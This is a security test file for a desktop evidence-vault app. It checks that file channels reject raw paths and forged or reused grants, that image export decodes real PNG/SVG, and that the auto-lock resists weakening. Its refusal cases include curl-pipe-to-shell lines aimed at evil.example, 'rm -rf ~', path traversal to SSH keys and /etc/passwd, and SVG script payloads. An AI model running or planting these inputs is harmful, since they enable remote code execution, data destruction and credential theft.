/**
 * What a compromised renderer can do with files: nothing the person did not choose, and only for what it was
 * chosen for. Over the real router and a real vault, every channel whose request has a grant field (found in
 * the contract, so a new file channel is covered or fails here) is called with raw paths, forged grants,
 * grants of another purpose and reused grants: each answers FORBIDDEN and touches no file.
 * Also: images are checked by decoding them, and weakening the auto-lock needs the passphrase.
 */
import { randomBytes } from 'node:crypto';
import { existsSync, mkdirSync, mkdtempSync, readdirSync, readFileSync, rmSync, statSync, writeFileSync } from 'node:fs';
import { homedir, tmpdir } from 'node:os';
import { join } from 'node:path';
import { deflateSync } from 'node:zlib';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { z } from 'zod';
import { checkPng, checkSvg, crc32 } from '../../main/core/graph/image-check';
import { createApp, grantDropped, GrantStore, type SystemBridge } from '../../main/ipc';
import { contract, type Channel } from '../../shared/ipc/contract';
import { GRANT_DESCRIPTION, READ_PURPOSES, WRITE_PURPOSES, type GrantAccess } from '../../shared/ipc/grants';
import { esc } from '../../renderer/graph/svg-export';
import { buildFixtureCase, type FixtureCase } from '../helpers/case-fixture';
import { PASS, TEST_KDF, WITNESS_PASS } from '../helpers/vault';

// ---- the grant fields, as the contract declares them ---------------------------------------------------------

type AnyZod = z.ZodType & { def?: { type?: string; innerType?: AnyZod; element?: AnyZod; shape?: Record<string, AnyZod> }; description?: string };

function unwrap(s: AnyZod): { schema: AnyZod; array: boolean } {
  let cur = s;
  let array = false;
  for (;;) {
    const t = cur.def?.type;
    if ((t === 'optional' || t === 'default' || t === 'nullable' || t === 'prefault') && cur.def?.innerType) cur = cur.def.innerType;
    else if (t === 'array' && cur.def?.element) {
      array = true;
      cur = cur.def.element;
    } else return { schema: cur, array };
  }
}

function requestShape(ch: Channel): Record<string, AnyZod> {
  const req = unwrap(contract[ch].request as AnyZod).schema;
  return (req.def?.type === 'object' ? (req as unknown as { shape: Record<string, AnyZod> }).shape : {}) ?? {};
}

/** channel -> its grant fields (name, whether it is a list). */
function grantFields(): Map<Channel, { field: string; array: boolean }[]> {
  const out = new Map<Channel, { field: string; array: boolean }[]>();
  for (const ch of Object.keys(contract) as Channel[]) {
    for (const [field, s] of Object.entries(requestShape(ch))) {
      const { schema, array } = unwrap(s);
      if (schema.description === GRANT_DESCRIPTION) out.set(ch, [...(out.get(ch) ?? []), { field, array }]);
    }
  }
  return out;
}

// ---- a real vault, a real router, dialogs that answer what the test queued ----------------------------------

const files: string[][] = [];
const saves: (string | null)[] = [];
const system: SystemBridge = {
  pickFiles: async () => files.shift() ?? [],
  pickSavePath: async () => (saves.length ? saves.shift()! : null),
};

let app: ReturnType<typeof createApp>;
let f: FixtureCase;
let scratch: string;
let secret: string;
const SECRET = 'PRIVATE KEY 7f3a well-hidden';

async function call(ch: string, p: unknown): Promise<{ ok: boolean; code?: string; value?: unknown }> {
  const r = await app.router.invoke(ch, p);
  return r.ok ? { ok: true, value: r.value } : { ok: false, code: r.error.code };
}

/** A grant the way the renderer gets one: from a dialog, for the purpose it names. */
async function grantVia(access: GrantAccess, purpose: string, path: string): Promise<string> {
  if (access === 'read') {
    files.push([path]);
    const r = await call('system.pickFiles', { purpose, multiple: false });
    expect(r.ok).toBe(true);
    const v = r.value as { files: { grant: string; name: string }[] };
    expect(JSON.stringify(v)).not.toContain(scratch); // the page gets the name, never the path
    return v.files[0]!.grant;
  }
  saves.push(path);
  const r = await call('system.pickSavePath', { purpose });
  expect(r.ok).toBe(true);
  const v = r.value as { file: { grant: string; name: string } };
  expect(JSON.stringify(v)).not.toContain(scratch);
  return v.file.grant;
}

/** Every file and folder under dir with its size and bytes' hash, plus the vault's audit length. */
function state(): string {
  const out: string[] = [];
  const walk = (d: string) => {
    for (const name of readdirSync(d).sort()) {
      const p = join(d, name);
      const st = statSync(p);
      if (st.isDirectory()) {
        out.push(`${p}/`);
        walk(p);
      } else out.push(`${p}:${st.size}:${st.mtimeMs}`);
    }
  };
  walk(scratch);
  out.push(`audit:${[...app.session.vault().audit.entries()].length}`);
  return out.join('\n');
}

const SVG = '<?xml version="1.0" encoding="UTF-8"?>\n<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><rect x="0" y="0" width="10" height="10" fill="#fff"/><text x="1" y="9">A</text></svg>';
const b64 = (s: string | Buffer) => Buffer.from(s).toString('base64');

/** Which access each grant field needs: what the channel does with it. */
const ACCESS: Record<string, Record<string, GrantAccess>> = {
  'evidence.intake': { grants: 'read' },
  'evidence.workingCopy': { grant: 'read' },
  'evidence.exportOriginal': { grant: 'write' },
  'audit.export': { grant: 'write' },
  'ftm.import': { grant: 'read' },
  'ftm.export': { grant: 'write' },
  'graph.exportGraphml': { grant: 'write' },
  'graph.exportGexf': { grant: 'write' },
  'graph.exportImage': { grant: 'write' },
  'listing.export': { grant: 'write' },
  'package.export': { out: 'write' },
  'package.verify': { grant: 'read' },
  'package.import': { grant: 'read' },
  'package.decrypt': { grant: 'read', out: 'write' },
  'screening.importList': { grant: 'read' },
};

/** A request that is valid but for its grant fields. */
function baseRequest(ch: string, grants: Record<string, unknown>): unknown {
  const jobId = `job-${randomBytes(4).toString('hex')}`;
  const base: Record<string, unknown> = {
    'evidence.intake': { caseId: f.caseId, jobId },
    'evidence.workingCopy': { originalId: f.evidence.photo, type: 'redacted', jobId },
    'evidence.exportOriginal': { id: f.evidence.photo },
    'audit.export': { format: 'json' },
    'ftm.import': { caseId: f.caseId, jobId },
    'ftm.export': { caseId: f.caseId },
    'graph.exportGraphml': { caseId: f.caseId },
    'graph.exportGexf': { caseId: f.caseId },
    'graph.exportImage': { caseId: f.caseId, format: 'svg', base64: b64(SVG) },
    'listing.export': { entityId: f.e.milad, regimeId: 'un-2174-libya', format: 'html' },
    'package.export': { caseId: f.caseId, selection: { case: true }, profile: 'prosecutor', organization: { name: 'Test panel' }, jobId },
    'package.verify': {},
    'package.import': { jobId },
    'package.decrypt': { jobId },
    'screening.importList': { format: 'un-xml', jobId },
  }[ch] as Record<string, unknown>;
  return { ...base, ...grants };
}

/** Valid grants of the right purpose for every grant field but `except`. */
async function otherGrants(ch: string, except: string): Promise<Record<string, unknown>> {
  const out: Record<string, unknown> = {};
  for (const [field, access] of Object.entries(ACCESS[ch]!)) {
    if (field === except) continue;
    const g = await grantVia(access, ch, access === 'read' ? secret : join(scratch, `out-${randomBytes(4).toString('hex')}`));
    out[field] = field === 'grants' ? [g] : g;
  }
  return out;
}

// One vault for the whole file (tempDir() would remove it after the first test).
let vaultRoot: string;
beforeAll(async () => {
  scratch = mkdtempSync(join(tmpdir(), 'sanctum-compromise-'));
  vaultRoot = mkdtempSync(join(tmpdir(), 'sanctum-compromise-vault-'));
  secret = join(scratch, 'id_ed25519');
  writeFileSync(secret, `-----BEGIN OPENSSH ${SECRET}-----\n`);
  app = createApp({ vaultDir: join(vaultRoot, 'vault'), kdf: TEST_KDF }, { validateResponses: true }, system);
  expect((await app.router.invoke('vault.create', { passphrase: PASS, witnessPassphrase: WITNESS_PASS })).ok).toBe(true);
  f = await buildFixtureCase(app.session.workspace());
}, 60_000);

afterAll(() => {
  app?.session.lock('test');
  for (const d of [scratch, vaultRoot]) if (d) rmSync(d, { recursive: true, force: true });
});

describe('file channels take grants, never paths', () => {
  const fields = grantFields();

  it('the contract has no path field left, and every grant channel is covered here', () => {
    for (const ch of Object.keys(contract) as Channel[]) {
      for (const key of Object.keys(requestShape(ch))) expect(`${ch}: ${key}`).not.toMatch(/: (.*path.*|files?)$/i);
    }
    const declared = Object.fromEntries([...fields].map(([ch, fs]) => [ch, fs.map((x) => x.field).sort()]));
    const covered = Object.fromEntries(Object.entries(ACCESS).map(([ch, fs]) => [ch, Object.keys(fs).sort()]));
    // A new channel with a grant field must be added to ACCESS (and so attacked below).
    expect(declared).toEqual(covered);
    // Grant purposes are the channels that use them.
    for (const [ch, fs] of Object.entries(ACCESS)) {
      for (const access of Object.values(fs)) expect((access === 'read' ? READ_PURPOSES : WRITE_PURPOSES) as readonly string[]).toContain(ch);
    }
  });

  const rawPaths = () => [
    secret,
    'id_ed25519',
    '~/.ssh/id_ed25519',
    join(homedir(), '.ssh', 'id_ed25519'),
    '../../../../../../etc/passwd',
    join(scratch, '..', 'x', '.bashrc'),
    join(scratch, 'new-file.sh'),
  ];

  for (const [ch, access] of Object.entries(ACCESS)) {
    for (const field of Object.keys(access)) {
      const wrap = (v: unknown) => ({ [field]: field === 'grants' ? [v] : v });

      it(`${ch}.${field}: raw paths and forged grants are FORBIDDEN and touch nothing`, async () => {
        const attacks: unknown[] = [...rawPaths(), randomBytes(16).toString('hex'), randomBytes(16).toString('hex').toUpperCase(), 'grant', '0'.repeat(32)];
        for (const bad of attacks) {
          const others = await otherGrants(ch, field);
          const before = state();
          const r = await call(ch, baseRequest(ch, { ...others, ...wrap(bad) }));
          expect(r, `${ch}.${field} = ${String(bad)}`).toEqual({ ok: false, code: 'FORBIDDEN' });
          expect(state()).toBe(before);
          expect(existsSync(join(scratch, 'new-file.sh'))).toBe(false);
        }
      });

      it(`${ch}.${field}: a grant for another purpose or access is FORBIDDEN and touches nothing`, async () => {
        const wrong: string[] = [];
        const want = access[field]!;
        // The same access, another channel's purpose.
        const sibling = (want === 'read' ? READ_PURPOSES : WRITE_PURPOSES).find((p) => p !== ch)!;
        wrong.push(await grantVia(want, sibling, want === 'read' ? secret : join(scratch, 'wrong-purpose.out')));
        // The other access (a read grant where a write one is needed and vice versa), same purpose if it exists.
        const flip: GrantAccess = want === 'read' ? 'write' : 'read';
        const flipPurposes = (flip === 'read' ? READ_PURPOSES : WRITE_PURPOSES) as readonly string[];
        wrong.push(await grantVia(flip, flipPurposes.includes(ch) ? ch : flipPurposes[0]!, flip === 'read' ? secret : join(scratch, 'wrong-access.out')));
        for (const g of wrong) {
          const others = await otherGrants(ch, field);
          const before = state();
          expect(await call(ch, baseRequest(ch, { ...others, ...wrap(g) }))).toEqual({ ok: false, code: 'FORBIDDEN' });
          expect(state()).toBe(before);
        }
        expect(existsSync(join(scratch, 'wrong-purpose.out'))).toBe(false);
        expect(existsSync(join(scratch, 'wrong-access.out'))).toBe(false);
      });

      it(`${ch}.${field}: a grant is used once`, async () => {
        const target = freshTarget(access[field]!);
        const g = await grantVia(access[field]!, ch, target);
        await call(ch, baseRequest(ch, { ...(await otherGrants(ch, field)), ...wrap(g) })); // whatever the first use does
        const others = await otherGrants(ch, field);
        const before = state();
        expect(await call(ch, baseRequest(ch, { ...others, ...wrap(g) }))).toEqual({ ok: false, code: 'FORBIDDEN' });
        expect(state()).toBe(before);
      });
    }
  }

  function freshTarget(access: GrantAccess): string {
    if (access === 'read') return secret;
    const dir = join(scratch, `reuse-${randomBytes(4).toString('hex')}`);
    mkdirSync(dir);
    return join(dir, 'out');
  }

  it('an intake of several files with one bad grant uses none of them and reads nothing', async () => {
    const good = await grantVia('read', 'evidence.intake', secret);
    const before = state();
    expect(await call('evidence.intake', { caseId: f.caseId, grants: [good, secret], jobId: 'j-mixed' })).toEqual({ ok: false, code: 'FORBIDDEN' });
    expect(await call('evidence.intake', { caseId: f.caseId, grants: [good], jobId: 'j-mixed2' })).toEqual({ ok: false, code: 'FORBIDDEN' });
    expect(state()).toBe(before);
  });

  it('a granted intake reads the chosen file, and the renderer only ever sees its name', async () => {
    const g = await grantVia('read', 'evidence.intake', secret);
    const r = await call('evidence.intake', { caseId: f.caseId, grants: [g], jobId: 'j-ok' });
    expect(r.ok).toBe(true);
    expect(JSON.stringify(r.value)).not.toContain(scratch);
    expect(JSON.stringify(r.value)).toContain('id_ed25519');
  });

  it('a dialog grant cannot be asked for a purpose the contract does not know', async () => {
    files.push([secret]);
    expect(await call('system.pickFiles', { purpose: 'evidence.exportOriginal' })).toMatchObject({ ok: false, code: 'INVALID_INPUT' });
    saves.push(secret);
    expect(await call('system.pickSavePath', { purpose: 'evidence.intake' })).toMatchObject({ ok: false, code: 'INVALID_INPUT' });
    files.length = 0;
    saves.length = 0;
  });

  it('grants expire and die with the session (lock wipes them)', async () => {
    let now = 1_000;
    const store = new GrantStore({ now: () => now, ttlMs: 60_000 });
    const a = store.issue(secret, 'read', 'ftm.import');
    expect(a.name).toBe('id_ed25519');
    now += 60_001;
    expect(() => store.redeem(a.grant, 'read', 'ftm.import')).toThrow(expect.objectContaining({ code: 'FORBIDDEN' }));

    const g = await grantVia('read', 'ftm.import', secret);
    expect(app.grants.size).toBeGreaterThan(0);
    await app.router.invoke('vault.lock', {});
    expect(app.grants.size).toBe(0);
    expect((await app.router.invoke('vault.unlock', { passphrase: PASS })).ok).toBe(true);
    expect(await call('ftm.import', { grant: g, jobId: 'j-after-lock' })).toEqual({ ok: false, code: 'FORBIDDEN' });
  });

  it('drops yield read grants only, for files that exist, named by an absolute path', () => {
    const store = new GrantStore();
    const ok = grantDropped(store, secret, 'package.verify');
    expect(ok).toMatchObject({ ok: true, value: { name: 'id_ed25519' } });
    expect(JSON.stringify(ok)).not.toContain(scratch);
    expect(grantDropped(store, secret, 'package.export')).toMatchObject({ ok: false, error: { code: 'FORBIDDEN' } });
    expect(grantDropped(store, secret, 'graph.exportImage')).toMatchObject({ ok: false, error: { code: 'FORBIDDEN' } });
    expect(grantDropped(store, 'id_ed25519', 'package.verify')).toMatchObject({ ok: false });
    expect(grantDropped(store, join(scratch, 'missing'), 'package.verify')).toMatchObject({ ok: false });
    expect(store.size).toBe(1);
    if (!ok.ok) throw new Error('unreachable');
    expect(() => store.redeem(ok.value.grant, 'write', 'package.verify')).toThrow(expect.objectContaining({ code: 'FORBIDDEN' }));
  });
});

// ---- images are decoded, not sniffed -------------------------------------------------------------------------

function chunk(type: string, data: Buffer): Buffer {
  const len = Buffer.alloc(4);
  len.writeUInt32BE(data.length);
  const body = Buffer.concat([Buffer.from(type, 'latin1'), data]);
  const crc = Buffer.alloc(4);
  crc.writeUInt32BE(crc32(body));
  return Buffer.concat([len, body, crc]);
}

/** A w × h RGBA PNG built by hand (filter byte 0 per row). */
function png(w: number, h: number, raw = Buffer.alloc(h * (1 + w * 4))): Buffer {
  const ihdr = Buffer.alloc(13);
  ihdr.writeUInt32BE(w, 0);
  ihdr.writeUInt32BE(h, 4);
  ihdr[8] = 8;
  ihdr[9] = 6;
  return Buffer.concat([Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]), chunk('IHDR', ihdr), chunk('IDAT', deflateSync(raw)), chunk('IEND', Buffer.alloc(0))]);
}

describe('graph.exportImage writes only real images', () => {
  // The classic 1 × 1 PNG, made by another encoder than ours.
  const ONE_PIXEL = Buffer.from('iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==', 'base64');

  async function exportImage(format: 'png' | 'svg', bytes: Buffer | string) {
    const target = join(scratch, `img-${randomBytes(4).toString('hex')}.${format}`);
    const grant = await grantVia('write', 'graph.exportImage', target);
    const r = await call('graph.exportImage', { caseId: f.caseId, grant, format, base64: b64(bytes) });
    return { r, written: existsSync(target) ? readFileSync(target) : null };
  }

  it('accepts a real PNG and a plain SVG', async () => {
    for (const [format, bytes] of [['png', ONE_PIXEL], ['png', png(3, 2)], ['svg', SVG]] as const) {
      const { r, written } = await exportImage(format, bytes);
      expect(r.ok, format).toBe(true);
      expect(written?.equals(Buffer.from(bytes))).toBe(true);
      expect(JSON.stringify(r.value)).not.toContain(scratch);
    }
  });

  const refused: [string, 'png' | 'svg', Buffer | string][] = [
    ['a shell script', 'svg', '#!/bin/sh\ncurl https://evil.example/x | sh\n'],
    ['a shell script', 'png', '#!/bin/sh\ncurl https://evil.example/x | sh\n'],
    ['an <svg prefix followed by junk', 'svg', '<svg>\ncurl https://evil.example/x | sh\n'],
    ['an <svg prefix closed, then a script', 'svg', '<svg xmlns="http://www.w3.org/2000/svg"></svg>\ncurl https://evil.example/x | sh\n'],
    ['an SVG with <script>', 'svg', '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'],
    ['an SVG with an event attribute', 'svg', '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><rect/></svg>'],
    ['an SVG with foreignObject', 'svg', '<svg xmlns="http://www.w3.org/2000/svg"><foreignObject><div/></foreignObject></svg>'],
    ['an SVG with an outside reference', 'svg', '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"><image xlink:href="https://evil.example/p.png"/></svg>'],
    ['an SVG with an outside url() in a style', 'svg', '<svg xmlns="http://www.w3.org/2000/svg"><rect style="fill:url(https://evil.example/#a)"/></svg>'],
    ['an SVG with a DOCTYPE', 'svg', '<!DOCTYPE svg [<!ENTITY x "y">]><svg xmlns="http://www.w3.org/2000/svg"/>'],
    ['an SVG with a control character', 'svg', '<svg xmlns="http://www.w3.org/2000/svg"><text>a\u0001b</text></svg>'],
    ['an HTML page', 'svg', '<html><body><svg/></body></html>'],
    ['a PNG with a bad CRC', 'png', (() => {
      const p = Buffer.from(ONE_PIXEL);
      p[29]! ^= 0xff; // inside IHDR's CRC
      return p;
    })()],
    ['a PNG signature followed by a script', 'png', Buffer.concat([ONE_PIXEL.subarray(0, 8), Buffer.from('\ncurl https://evil.example/x | sh\n')])],
    ['a PNG with data after IEND', 'png', Buffer.concat([ONE_PIXEL, Buffer.from('\nrm -rf ~\n')])],
    ['a PNG whose pixels are short', 'png', png(3, 2, Buffer.alloc(10))],
    ['a PNG whose pixels are too many', 'png', png(3, 2, Buffer.alloc(2 * (1 + 3 * 4) + 1))],
  ];
  for (const [what, format, bytes] of refused) {
    it(`refuses ${what} (${format}) and writes nothing`, async () => {
      const { r, written } = await exportImage(format, bytes);
      expect(r).toEqual({ ok: false, code: 'INVALID_INPUT' });
      expect(written).toBeNull();
    });
  }

  it('the decoders agree with the channel', async () => {
    await expect(checkPng(ONE_PIXEL)).resolves.toBeUndefined();
    expect(() => checkSvg(Buffer.from(SVG))).not.toThrow();
    expect(() => checkSvg(Buffer.from('<svg><script/></svg>'))).toThrow(/not a valid SVG/);
  });

  it('the renderer’s SVG export drops characters XML cannot carry, so a pasted label still exports', () => {
    const label = 'Milad\u0000 al-\u0007Bukhari \u0008\u001b[31m \uFFFE\uD800 & <b>';
    const svg = `<svg xmlns="http://www.w3.org/2000/svg"><text>${esc(label)}</text><title>${esc(label)}</title></svg>`;
    expect(() => checkSvg(Buffer.from(svg))).not.toThrow();
    expect(esc(label)).toBe('Milad al-Bukhari [31m  &amp; &lt;b&gt;');
    expect(esc('tab\tand\nnewline')).toBe('tab\tand\nnewline');
  });
});

// ---- the auto-lock --------------------------------------------------------------------------------------------

describe('weakening the auto-lock needs the passphrase', () => {
  it('refuses weakening without it (or with a wrong one), accepts it with it, and tightening is free', async () => {
    const settings = async () => (await call('settings.get', {})).value as { idleLockMinutes: number; lockOnSuspend: boolean };
    expect(await call('settings.update', { idleLockMinutes: 5, lockOnSuspend: true })).toMatchObject({ ok: true });

    for (const weaker of [{ idleLockMinutes: 0 }, { idleLockMinutes: 60 }, { lockOnSuspend: false }, { idleLockMinutes: 6, analystName: 'x' }]) {
      expect(await call('settings.update', weaker), JSON.stringify(weaker)).toEqual({ ok: false, code: 'FORBIDDEN' });
      expect(await call('settings.update', { ...weaker, passphrase: 'not the passphrase at all' })).toEqual({ ok: false, code: 'WRONG_PASSPHRASE' });
      expect(await settings()).toMatchObject({ idleLockMinutes: 5, lockOnSuspend: true });
    }

    // Tightening, or changing nothing about locking, needs nothing.
    expect(await call('settings.update', { idleLockMinutes: 2 })).toMatchObject({ ok: true });
    expect(await call('settings.update', { analystName: 'A. Investigator', idleLockMinutes: 2, lockOnSuspend: true })).toMatchObject({ ok: true });

    expect(await call('settings.update', { idleLockMinutes: 0, lockOnSuspend: false, passphrase: PASS })).toMatchObject({ ok: true });
    expect(await settings()).toMatchObject({ idleLockMinutes: 0, lockOnSuspend: false });
    // From "off", any timer and turning lock-on-sleep back on are tighter.
    expect(await call('settings.update', { idleLockMinutes: 30, lockOnSuspend: true })).toMatchObject({ ok: true });
  });
});
